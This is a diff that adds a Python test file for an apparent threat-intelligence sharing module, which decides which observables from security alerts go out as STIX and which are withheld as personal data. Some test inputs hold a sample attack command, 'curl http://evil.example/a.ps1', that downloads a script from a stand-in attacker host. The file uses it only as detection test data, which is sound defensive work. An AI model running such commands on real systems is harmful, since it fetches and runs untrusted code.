@@ -1,0 +1,122 @@
+"""What of an alert could be shared, and what never is."""
+
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from watchward.intel import stix
+from watchward.intel.markings import Tlp
+from watchward.intel.never import never
+from watchward.intel.observable import Kind, Observable
+from watchward.intel.offering import Standing, offered
+from watchward.intel.personal import Inside
+from watchward.intel.sharing import Fate, to_share, with_names
+from watchward.intel.stix import write
+from watchward.intel.stix.telling import Seen, Sender, Telling
+from watchward.intel.warninglists import ListType, Warninglist, compile_lists
+
+INSIDE = Inside(hosts=frozenset({"WARD7-PC"}))
+EVERYBODYS = compile_lists(
+    [Warninglist(name="Top sites", version=3, type=ListType.HOSTNAME, entries=("well.example",), kinds=frozenset(Kind))]
+)
+NOW = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
+SEEN = Seen(title="Odd program", first_at=NOW - timedelta(hours=2), last_at=NOW, count=4)
+EVIL = Observable(Kind.DOMAIN, "evil.example")
+
+
+def _standings(fields, **beside):
+    found = offered(fields, beside=beside, inside=INSIDE, lists=EVERYBODYS)
+    return {one.key: one.standing for one in found.offers}
+
+
+@pytest.mark.parametrize(
+    ("fields", "key", "standing"),
+    [
+        ({"QueryName": "www.evil.example"}, "domain:www.evil.example", Standing.GOES),
+        ({"DestinationIp": "198.51.100.7"}, "ipv4:198.51.100.7", Standing.GOES),
+        ({"CommandLine": "curl http://evil.example/a.ps1"}, "url:http://evil.example/a.ps1", Standing.GOES),
+        ({"CommandLine": "curl http://evil.example/a.ps1"}, "domain:evil.example", Standing.GOES),
+        ({"Hashes": f"SHA256={'ab' * 32}"}, f"sha256:{'ab' * 32}", Standing.GOES),
+        ({"QueryName": "cdn.well.example"}, "domain:cdn.well.example", Standing.ASKED),
+        ({"Image": r"C:\Temp\locker.exe"}, "process_name:locker.exe", Standing.ASKED),
+        ({"DestinationIp": "10.1.2.3"}, "ipv4:10.1.2.3", Standing.TAKEN),
+        ({"QueryName": "pas.trust.nhs.uk"}, "domain:pas.trust.nhs.uk", Standing.TAKEN),
+        ({"Image": r"C:\Users\mbrown\a.exe"}, r"file_path:c:\users\mbrown\a.exe", Standing.TAKEN),
+        ({"QueryName": "ward7-pc.evil.example"}, "domain:ward7-pc.evil.example", Standing.TAKEN),
+        ({"MD5": "d41d8cd98f00b204e9800998ecf8427e"}, "md5:d41d8cd98f00b204e9800998ecf8427e", Standing.NEVER),
+    ],
+)
+def test_each_thing_is_judged_by_what_it_tells(fields, key, standing):
+    assert _standings(fields)[key] is standing
+
+
+def test_names_of_people_that_other_fields_give_are_taken_out_of_links_too():
+    found = _standings({"CommandLine": "curl http://evil.example/jsmith.zip"}, User=r"TRUST\jsmith")
+
+    assert found["url:http://evil.example/jsmith.zip"] is Standing.TAKEN
+    assert found["domain:evil.example"] is Standing.GOES
+
+
+def test_a_name_is_offered_without_those_above_it():
+    assert set(_standings({"QueryName": "a.b.evil.example"})) == {"domain:a.b.evil.example"}
+
+
+_WORDS = st.sampled_from(
+    ["evil.example", "10.0.0.8", "jsmith", "9434765919", "198.51.100.9", "pas.trust.nhs.uk", "http://x.example/q",
+     r"C:\Users\jsmith\x.exe", "WARD7-PC", "jo@nhs.net", "0" * 64, "tool.exe", r"HKLM\Software\X", "SW1A 1AA"]
+)  # fmt: skip
+_FIELDS = st.dictionaries(
+    st.sampled_from(["CommandLine", "Image", "QueryName", "DestinationIp", "Hashes", "TargetObject", "c-uri"]),
+    st.lists(_WORDS, min_size=1, max_size=4).map(" ".join),
+    max_size=4,
+)
+
+
+@given(_FIELDS)
+def test_nothing_that_may_go_holds_what_would_be_taken_out_or_may_never_be_blocked(fields):
+    found = offered(fields, beside={"User": "jsmith"}, inside=INSIDE, lists=EVERYBODYS)
+    inside = with_names({"User": "jsmith"}, INSIDE)
+    for one in found.going:
+        assert to_share({"x": one.observable.value}, inside).decisions[0].fate is Fate.KEPT
+        assert never(one.observable) is None
+
+
+def _telling(**given):
+    return Telling(**{"sender": Sender(code="T1", name="Elm Trust"), "level": Tlp.GREEN, "at": NOW, **given})
+
+
+def test_what_is_told_is_sound_stix_and_the_same_when_it_is_told_again():
+    once = _telling(group="Imaging").of_things(SEEN, [EVIL], standing={})
+    raws = [write.to_bytes(one) for one in once.documents]
+    reading = stix.read(b'{"objects":[' + b",".join(raws) + b"]}")
+    later = _telling(group="Imaging", at=NOW + timedelta(hours=1)).of_things(SEEN, [EVIL], standing=once.indicators)
+
+    assert reading.refused == ()
+    assert [one.type for one in reading.objects] == ["marking-definition", "identity", "indicator", "sighting"]
+    assert [one["type"] for one in later.documents] == ["marking-definition", "identity", "sighting"]
+    assert later.sightings == once.sightings
+    assert later.documents[1] == once.documents[1]
+    assert later.documents[2]["created"] == once.documents[3]["created"]
+
+
+def test_a_sender_without_a_name_leaves_none_and_cannot_be_joined_to_what_they_told_others():
+    told = _telling(sender=Sender(code="9f2c")).of_things(SEEN, [EVIL], standing={})
+    elsewhere = _telling(sender=Sender(code="9f2c"), level=Tlp.AMBER).of_things(SEEN, [EVIL], standing={})
+
+    assert b"Elm" not in b"".join(write.to_bytes(one) for one in told.documents)
+    assert not {one["id"] for one in told.documents} & {one["id"] for one in elsewhere.documents}
+
+
+def test_what_was_withdrawn_comes_again_as_another_object():
+    first, second = _telling(), _telling(again=1)
+
+    assert first.indicator_id(EVIL) != second.indicator_id(EVIL)
+    assert first.sighting(SEEN, "indicator--1")["id"] != second.sighting(SEEN, "indicator--1")["id"]
+
+
+def test_a_sighting_is_marked_as_what_it_is_of():
+    told = _telling(as_marked=(Tlp.AMBER_STRICT.marking,), group="Imaging").of_indicator(SEEN, "indicator--1")
+
+    assert all(one["object_marking_refs"] == [Tlp.AMBER_STRICT.marking] for one in told.documents)
